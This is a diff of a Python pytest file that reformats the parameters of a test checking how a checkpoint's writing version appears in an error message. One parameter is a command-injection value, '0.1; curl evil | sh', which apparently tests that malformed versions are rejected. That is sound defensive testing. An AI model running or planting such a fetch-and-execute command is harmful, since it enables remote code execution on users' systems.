@@ -59,7 +59,11 @@ def test_a_description_does_not_grow_with_the_tensors():
 
 @pytest.mark.parametrize(
     ("version", "said"),
-    [("0.3.1", "install neumeta_hf 0.3.1"), (None, "install the release"), ("0.1; curl evil | sh", "install the release")],
+    [
+        ("0.3.1", "install neumeta_hf 0.3.1"),
+        (None, "install the release"),
+        ("0.1; curl evil | sh", "install the release"),
+    ],
 )
 def test_the_version_that_wrote_a_checkpoint_is_named_where_it_is_one(version, said):
     with pytest.raises(CheckpointError, match=said) as error:
